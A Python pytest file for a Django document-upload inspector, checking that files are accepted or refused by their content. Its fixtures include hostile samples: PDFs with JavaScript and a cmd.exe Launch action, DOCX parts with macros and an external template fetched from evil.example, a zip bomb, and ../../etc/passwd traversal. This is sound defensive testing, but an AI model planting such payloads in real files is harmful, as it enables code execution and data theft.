"""A file comes in by what it holds, not by what it is called."""

import struct
import zipfile

import pikepdf
import pytest
from django.core.exceptions import ValidationError

from portal.documents import rules
from portal.documents.inspection import inspect
from tests import factories as make
from tests.portal.documents import papers
from tests.portal.documents.papers import an_upload

JS = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
RAR = b"Rar!\x1a\x07\x00" + b"\x00" * 64


def refused(name: str, content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as refusal:
        inspect(an_upload(name, content))
    return refusal.value


@pytest.mark.parametrize(
    ("name", "content", "pages"),
    [
        ("审计报告.pdf", papers.a_pdf(3), 3),
        ("小.pdf", make.PDF, 1),
        ("执照.png", papers.a_png(), None),
        ("指标.xlsx", papers.an_xlsx(), None),
        ("方案.docx", papers.a_docx(), None),
    ],
)
def test_documents_pictures_and_tables_are_taken(name, content, pages):
    found, counted = inspect(an_upload(name, content))
    assert (found.name, counted) == (name, pages)


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("空.pdf", b"", "empty"),
        ("假.pdf", HTML, "content"),
        ("假.pdf", b"junk\n" + papers.a_pdf(), "content"),
        ("假.png", papers.a_pdf(), "content"),
        ("假.pdf", papers.a_png(), "content"),
        ("坏.png", papers.a_png()[:40], "broken"),
        ("坏.pdf", papers.a_pdf()[:60], "broken"),
        ("锁.pdf", papers.a_locked_pdf(), "broken"),
        ("网页.html", HTML, "extension"),
        ("图.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "extension"),
        ("程序.pdf.exe", papers.a_pdf(), "extension"),
        ("包.zip", papers.zipped({"a.txt": "a"}), "archive"),
        ("包.rar", RAR, "archive"),
        ("包.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 64, "archive"),
        ("包.docx", papers.zipped({"a.txt": "a"}), "archive"),
        ("包.docx", RAR, "content"),
        ("表.docx", papers.an_xlsx(), "content"),
        ("宏.xlsm", papers.an_xlsx(), "active"),
    ],
)
def test_what_it_is_not_stays_out(name, content, why):
    assert refused(name, content).code == why


@pytest.mark.clause("十")
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("汇报.pptx", b"PK\x03\x04"),
        ("汇报.ppt", b"\xd0\xcf\x11\xe0"),
        ("宣传.mp4", MP4),
        ("宣传.pdf", MP4),
        ("汇报.docx", papers.zipped({papers.TYPES: "", "ppt/presentation.xml": ""})),
    ],
)
def test_slides_and_video_are_refused_by_clause_ten_whatever_their_name(name, content):
    refusal = refused(name, content)
    assert refusal.code == "slides_or_video"
    assert "十" in refusal.messages[0] or "10" in refusal.messages[0]


@pytest.mark.parametrize(
    "content",
    [
        papers.a_pdf(OpenAction=JS),
        papers.a_pdf(AA=pikepdf.Dictionary(WC=JS)),
        papers.a_pdf(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary())),
        papers.an_annotated_pdf({"/Subtype": pikepdf.Name.Link, "/A": JS}),
        papers.an_annotated_pdf(
            {
                "/Subtype": pikepdf.Name.Link,
                "/A": pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
            }
        ),
        papers.an_annotated_pdf({"/Subtype": pikepdf.Name.FileAttachment}),
        papers.an_annotated_pdf({"/Subtype": pikepdf.Name.RichMedia}),
        papers.a_pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.Array())),
        papers.a_pdf(
            X=lambda pdf: pdf.make_indirect(
                pikepdf.Stream(pdf, b"x", Type=pikepdf.Name.EmbeddedFile)
            )
        ),
    ],
)
def test_a_pdf_that_runs_or_carries_something_is_refused(content):
    assert refused("申报书.pdf", content).code == "active"


def test_a_pdf_that_only_speaks_of_scripts_is_taken():
    content = papers.a_pdf(Info=pikepdf.Dictionary(Title="/JavaScript /Launch"))
    assert inspect(an_upload("论文.pdf", content))[1] == 1


@pytest.mark.parametrize(
    "extra",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/activeX/activeX1.xml": "<x/>"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/evil.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'},
        {
            "word/_rels/settings.xml.rels": (
                '<Relationship Type="http://x/attachedTemplate" TargetMode="External" '
                'Target="http://evil.example/t.dotm"/>'
            )
        },
    ],
)
def test_a_document_with_macros_or_strange_relations_is_refused(extra):
    assert refused("方案.docx", papers.a_docx(extra)).code == "active"


def test_a_document_may_link_to_a_page():
    rels = {
        "word/_rels/document.xml.rels": (
            '<Relationship Type="http://x/hyperlink" TargetMode="External" Target="http://a.example"/>'
        )
    }
    assert inspect(an_upload("方案.docx", papers.a_docx(rels)))[0].name == "方案.docx"


def test_a_zip_bomb_is_known_before_it_is_unpacked():
    bomb = papers.a_docx({"word/big.xml": b"\0" * (rules.RATIO_FROM + 1)})
    assert len(bomb) < 1_000_000
    assert refused("炸弹.docx", bomb).code == "bomb"


def test_a_part_that_lies_about_its_size_is_damaged():
    content = bytearray(papers.a_docx({"word/big.xml": b"\0" * 5000}))
    at = content.rindex(b"word/big.xml") - 46 + 24  # its size in the central directory
    assert struct.unpack_from("<L", content, at) == (5000,)
    struct.pack_into("<L", content, at, 10)
    assert zipfile.is_zipfile(__import__("io").BytesIO(bytes(content)))
    assert refused("假.docx", bytes(content)).code == "broken"


@pytest.mark.parametrize("path", ["../../etc/passwd", "/etc/passwd"])
def test_a_part_that_would_leave_its_folder_is_refused(path):
    assert refused("方案.docx", papers.a_docx({path: "x"})).code == "broken"


def test_the_limit_is_told_with_both_numbers():
    found = rules.Found("大.pdf", 51 * rules.MIB, "application/pdf")
    assert rules.fault(found) is rules.FileFault.TOO_LARGE
    assert rules.fault(rules.Found("大.pdf", 50 * rules.MIB, "application/pdf")) is None
    upload = an_upload("大.pdf", papers.a_pdf())
    upload.size = 51 * rules.MIB
    (told,) = refused_upload(upload).messages
    assert "51" in told
    assert "50" in told


def refused_upload(upload) -> ValidationError:
    with pytest.raises(ValidationError) as refusal:
        inspect(upload)
    return refusal.value
